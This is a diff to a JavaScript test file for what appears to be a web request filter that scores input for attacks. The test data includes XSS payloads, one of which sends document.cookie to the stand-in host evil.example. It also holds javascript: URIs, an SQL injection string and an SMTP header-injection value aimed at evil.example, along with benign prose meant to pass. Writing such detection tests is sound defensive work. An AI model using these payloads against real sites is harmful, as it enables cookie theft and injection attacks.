@@ -88,7 +88,7 @@ t.test('XSS', async (t) => {
     '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'x" style="behavior:url(#default#time2)" onbegin="alert(1)',
     'prompt.call(window, document.domain)', 'confirm.apply(this,[document.domain])', '(prompt)(7)', 'alert?.(origin)',
     'top[\'con\'+\'firm\'](7)', 'self[atob(\'YWxlcnQ=\')](1)', 'Function(\'\\x63onfirm(7)\')()', '[7].some(confirm(7))',
-    'x"+onfocus=prompt(7)+autofocus+x="', 'new Image().src=\'//evil.example/?c=\'+document[\'cookie\']',
+    'x"+onfocus=prompt(7)+autofocus+x="', 'new Image().src=\'//evil.example/?c=\'+document[\'cookie\']', '<a href="javascript: void 0,prompt(1)">', 'javascript: this, alert(1)',
   ])
 })
 
@@ -101,7 +101,7 @@ t.test('text with angle brackets, quotes and HTML without active content passes'
     'The data: text/html is fine', 'Event: online = true', '<img src="/static/cat.png" alt="a cat">', 'Styles: bold, italic',
     'I\'m going on a trip; once=enough', 'document the cookie policy', '<br/> line break',
     'JavaScript: Basics of the Language', 'javascript: a beginner\'s guide', 'Function (math): f(x) = 2x', 'window [left] (open)',
-    'call me (please)', 'Alert: the call is at 5', 'top [10] (list)', 'window[0] (first)', 'this[x] (see note)', 'The C++ FAQ', 'x+y+z', 'one + two = three',
+    'call me (please)', 'Alert: the call is at 5', 'top [10] (list)', 'window[0] (first)', 'this[x] (see note)', 'Enter your password (confirm) (min 8 chars)', 'AI (prompt) (beta)', 'The C++ FAQ', 'x+y+z', 'one + two = three',
   ])
 })
 
@@ -149,7 +149,7 @@ t.test('separators and command names in prose pass', async (t) => {
     'I\'d like tea', 'who we are', 'id: 12345', 'type: text', 'more info | less noise', 'Price: $5 (USD)', '${name} is a placeholder',
     'echo chamber; the film', 'R&D; find out more', 'Net user growth',
     'What? Really?!', 'see /api/v1/items?page=2 and /api/v2/*', 'match *.txt and /docs/*.md', '5 * 3 = 15', 'a/b?c=d',
-    'files under /*/* are listed', 'Cost: $5 per item; $x is a variable', 'It\u2019s a book\u2019s title',
+    'files under /*/* are listed', 'Cost: $5 per item; $x is a variable', 'It\u2019s a book\u2019s title', 'exclude /usr/* and /proc/*', '/bin/*', 'rsync --exclude=/proc/* /',
   ])
   const textarea = inBody(pl1, 'application/x-www-form-urlencoded', `notes=${encodeURIComponent('Columns;\nid\nname\nemail')}`)
   t.equal(textarea.score, 0, `a textarea may list "id" on a line of its own: ${explain(textarea)}`)
@@ -181,12 +181,13 @@ t.test('templates, placeholders and code words in prose pass', async (t) => {
     'prototype design', 'The constructor is called once', 'class A { constructor () {} }', 'Request your refund',
     '<?xml version="1.0" encoding="UTF-8"?><note>hi</note>', '<!DOCTYPE html>', 'O:8 ratio', 'rO0', 'import os',
     '(a|(b=c))', 'Sort by (date|name)', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN">', 'assign a new() owner',
-    'quit smoking', 'To: the team, from: me',
+    'quit smoking', 'To: the team, from: me', 'Agenda:\nQ3 status review', 'FY24 select vendors\nnext steps',
   ])
 })
 
 t.test('ordinary form and API values pass', async (t) => {
   benign(t, [
+    '{"score":{"$gte":1000}}', '{"status":"A", "$or":[{"qty":{"$lt":30}}]}', 'db.users.find() example', '$or: either',
     'Great product!!! Would buy again :) 5/5', 'Didn\'t work as expected -- returned it.', 'Size runs small; order one size up.',
     'The \'premium\' version isn\'t worth $20 more.', 'Arrived on 12/03/2024 @ 3pm', 'I\'d rate it 4.5/5 & recommend it to friends',
     '123 Main St., Apt #4B', 'how to select all in excel', 'union station chicago', 'drop shipping business', 'python sleep function',
@@ -254,4 +255,13 @@ t.test('every attack above is also caught at PL2, and the benign ones stay below
     t.ok(r.score < 5, `${text} → ${explain(r)}`)
   }
   t.ok(inQuery(pl2, '\' or 1=1--').score >= 5)
+})
+
+t.test('multi-line text in a body: agenda lines, "quit", "data" and list items are not mail commands', async (t) => {
+  for (const text of ['Agenda:\nQ3 status review', '\nFY24 select vendors', 'Steps:\nv2 list endpoints', 'Fields:\nData\nName', 'I want to\nquit\nnow', 'Hi\nTo: the whole team\nBye']) {
+    const r = inBody(pl1, 'application/json', JSON.stringify({ message: text }))
+    t.equal(r.score, 0, `${JSON.stringify(text)} → ${explain(r)}`)
+  }
+  const smtp = inBody(pl1, 'application/json', JSON.stringify({ subject: 'hi\r\nRCPT TO: <eve@evil.example>' }))
+  t.ok(smtp.score >= 5, `the SMTP envelope still is: ${explain(smtp)}`)
 })
